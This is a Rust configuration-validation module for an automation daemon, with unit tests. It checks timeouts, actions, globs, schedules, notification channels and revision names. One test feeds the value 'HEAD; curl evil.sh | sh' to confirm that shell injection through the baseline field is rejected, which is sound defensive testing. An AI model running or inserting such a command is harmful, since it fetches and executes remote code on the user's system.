// src/config/validate.rs

use tracing::warn;

use crate::config::model::{ConfigFile, RawConfigFile};
use crate::errors::{AutopilotError, Result};
use crate::exec::notify::BUILTIN_LOG_CHANNEL;
use crate::monitor::schedule::Cadence;
use crate::monitor::vcs::is_safe_revision;
use crate::types::Urgency;
use crate::watch::patterns::WatchProfile;

impl TryFrom<RawConfigFile> for ConfigFile {
    type Error = AutopilotError;

    fn try_from(raw: RawConfigFile) -> std::result::Result<Self, Self::Error> {
        validate_raw_config(&raw)?;
        Ok(ConfigFile::new_unchecked(raw))
    }
}

fn validate_raw_config(cfg: &RawConfigFile) -> Result<()> {
    validate_daemon(cfg)?;
    validate_actions(cfg)?;
    validate_triggers(cfg)?;
    validate_notifications(cfg)?;
    Ok(())
}

fn config_error(msg: impl Into<String>) -> AutopilotError {
    AutopilotError::ConfigError(msg.into())
}

fn ensure_positive(value: u64, field: &str) -> Result<()> {
    if value == 0 {
        return Err(config_error(format!("{field} must be >= 1 (got 0)")));
    }
    Ok(())
}

fn validate_daemon(cfg: &RawConfigFile) -> Result<()> {
    ensure_positive(cfg.daemon.health_check_secs, "[daemon].health_check_secs")?;
    ensure_positive(cfg.daemon.stop_timeout_secs, "[daemon].stop_timeout_secs")?;
    Ok(())
}

fn validate_actions(cfg: &RawConfigFile) -> Result<()> {
    for (name, action) in cfg.actions.iter() {
        match (&action.command, &action.notify) {
            (Some(_), Some(_)) => {
                return Err(config_error(format!(
                    "action '{name}' sets both `command` and `notify`"
                )));
            }
            (None, None) => {
                return Err(config_error(format!(
                    "action '{name}' must set either `command` or `notify`"
                )));
            }
            (Some(cmd), None) if cmd.trim().is_empty() => {
                return Err(config_error(format!("action '{name}' has an empty `command`")));
            }
            _ => {}
        }
        ensure_positive(action.timeout_ms, &format!("[actions.{name}].timeout_ms"))?;
    }
    Ok(())
}

fn validate_triggers(cfg: &RawConfigFile) -> Result<()> {
    let t = &cfg.triggers;

    ensure_positive(t.file_change.debounce_ms, "[triggers.file_change].debounce_ms")?;
    WatchProfile::new(&t.file_change.watch, &t.file_change.exclude)
        .map_err(|e| config_error(format!("[triggers.file_change]: {e:#}")))?;

    ensure_positive(t.bulk_change.poll_secs, "[triggers.bulk_change].poll_secs")?;
    ensure_positive(t.bulk_change.time_window_ms, "[triggers.bulk_change].time_window_ms")?;
    if t.bulk_change.threshold_count == 0 {
        return Err(config_error(
            "[triggers.bulk_change].threshold_count must be >= 1 (got 0)",
        ));
    }
    if !is_safe_revision(&t.bulk_change.baseline) {
        return Err(config_error(format!(
            "[triggers.bulk_change].baseline '{}' is not a plain revision name",
            t.bulk_change.baseline
        )));
    }

    ensure_positive(t.build_failure.poll_secs, "[triggers.build_failure].poll_secs")?;
    if t.build_failure.output_path.trim().is_empty() {
        return Err(config_error("[triggers.build_failure].output_path must not be empty"));
    }

    ensure_positive(t.commit_hook.poll_secs, "[triggers.commit_hook].poll_secs")?;

    ensure_positive(t.scheduled_task.tick_secs, "[triggers.scheduled_task].tick_secs")?;
    for (name, task) in t.scheduled_task.tasks.iter() {
        task.schedule.parse::<Cadence>().map_err(|e| {
            config_error(format!("[triggers.scheduled_task.tasks.{name}]: {e}"))
        })?;
    }

    ensure_positive(t.error_threshold.evaluate_secs, "[triggers.error_threshold].evaluate_secs")?;

    Ok(())
}

fn validate_notifications(cfg: &RawConfigFile) -> Result<()> {
    let policy = &cfg.notifications;
    for urgency in [Urgency::Low, Urgency::Medium, Urgency::High, Urgency::Critical] {
        for channel in policy.channels_for(urgency) {
            if channel != BUILTIN_LOG_CHANNEL && !policy.channels.contains_key(channel) {
                return Err(config_error(format!(
                    "[notifications].{urgency} references unknown channel '{channel}'"
                )));
            }
        }
    }
    for (name, channel) in policy.channels.iter() {
        ensure_positive(channel.timeout_ms, &format!("[notifications.channels.{name}].timeout_ms"))?;
    }
    Ok(())
}

/// Unknown action names are a runtime `UnknownAction`, not a config error.
/// Trigger references to actions that are not defined, as `(trigger, action)`.
///
/// Not an error: the dispatch fails that action with `UnknownAction` at
/// runtime and the rest of the route still runs.
pub fn undefined_action_references(config: &ConfigFile) -> Vec<(&'static str, &str)> {
    let t = config.triggers();
    let mut referenced: Vec<(&'static str, &str)> = Vec::new();
    referenced.extend(t.file_change.actions.iter().map(|a| ("file_change", a.as_str())));
    referenced.extend(t.bulk_change.actions.iter().map(|a| ("bulk_change", a.as_str())));
    referenced.extend(t.build_failure.actions.iter().map(|a| ("build_failure", a.as_str())));
    referenced.extend(t.build_failure.fix_actions.iter().map(|a| ("build_failure", a.as_str())));
    referenced.push(("build_failure", t.build_failure.build_action.as_str()));
    referenced.extend(t.commit_hook.actions.iter().map(|a| ("commit_hook", a.as_str())));
    for task in t.scheduled_task.tasks.values() {
        referenced.extend(task.actions.iter().map(|a| ("scheduled_task", a.as_str())));
    }
    referenced.extend(t.error_threshold.actions.iter().map(|a| ("error_threshold", a.as_str())));
    referenced.extend(config.daemon().smoke_test.iter().map(|a| ("daemon.smoke_test", a.as_str())));

    referenced.retain(|(_, action)| !config.actions().contains_key(*action));
    referenced
}

/// Log one warning per undefined action reference. Called once at startup,
/// not on every reload.
pub fn warn_on_undefined_actions(config: &ConfigFile) {
    for (trigger, action) in undefined_action_references(config) {
        warn!(trigger, action, "trigger references an undefined action");
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::model::{ActionSpec, ChannelConfig, ScheduledTaskConfig};

    fn expect_config_error(raw: RawConfigFile, needle: &str) {
        match ConfigFile::try_from(raw) {
            Err(AutopilotError::ConfigError(msg)) => {
                assert!(msg.contains(needle), "message {msg:?} should contain {needle:?}")
            }
            other => panic!("expected ConfigError, got {other:?}"),
        }
    }

    #[test]
    fn default_config_is_valid() {
        assert!(ConfigFile::try_from(RawConfigFile::default()).is_ok());
    }

    #[test]
    fn action_with_both_command_and_notify_is_rejected() {
        let mut raw = RawConfigFile::default();
        let mut spec = ActionSpec::command("true", 1_000, 0);
        spec.notify = Some(Urgency::Low);
        raw.actions.insert("both".into(), spec);
        expect_config_error(raw, "both `command` and `notify`");
    }

    #[test]
    fn zero_debounce_is_rejected() {
        let mut raw = RawConfigFile::default();
        raw.triggers.file_change.debounce_ms = 0;
        expect_config_error(raw, "debounce_ms");
    }

    #[test]
    fn zero_threshold_count_is_rejected() {
        let mut raw = RawConfigFile::default();
        raw.triggers.bulk_change.threshold_count = 0;
        expect_config_error(raw, "threshold_count");
    }

    #[test]
    fn shell_metacharacters_in_baseline_are_rejected() {
        let mut raw = RawConfigFile::default();
        raw.triggers.bulk_change.baseline = "HEAD; curl evil.sh | sh".into();
        expect_config_error(raw, "baseline");
    }

    #[test]
    fn invalid_glob_is_rejected() {
        let mut raw = RawConfigFile::default();
        raw.triggers.file_change.watch = vec!["src/[".into()];
        expect_config_error(raw, "file_change");
    }

    #[test]
    fn unparseable_schedule_is_rejected() {
        let mut raw = RawConfigFile::default();
        raw.triggers.scheduled_task.tasks.insert(
            "nightly".into(),
            ScheduledTaskConfig {
                schedule: "whenever".into(),
                actions: vec![],
            },
        );
        expect_config_error(raw, "nightly");
    }

    #[test]
    fn unknown_notification_channel_is_rejected() {
        let mut raw = RawConfigFile::default();
        raw.notifications.high.push("pager".into());
        expect_config_error(raw, "pager");

        let mut raw = RawConfigFile::default();
        raw.notifications.high.push("pager".into());
        raw.notifications.channels.insert(
            "pager".into(),
            ChannelConfig {
                command: "true".into(),
                timeout_ms: 1_000,
            },
        );
        assert!(ConfigFile::try_from(raw).is_ok());
    }

    #[test]
    fn undefined_action_reference_is_only_a_warning() {
        let mut raw = RawConfigFile::default();
        raw.triggers.file_change.actions.push("does_not_exist".into());
        raw.daemon.smoke_test.push("also_missing".into());
        let config = ConfigFile::try_from(raw).unwrap();

        let refs = undefined_action_references(&config);
        assert!(refs.contains(&("file_change", "does_not_exist")));
        assert!(refs.contains(&("daemon.smoke_test", "also_missing")));
        assert!(refs.iter().all(|(_, a)| !config.actions().contains_key(*a)));
    }

    #[test]
    fn default_config_references_only_defined_actions() {
        let config = ConfigFile::try_from(RawConfigFile::default()).unwrap();
        assert!(undefined_action_references(&config).is_empty());
    }
}
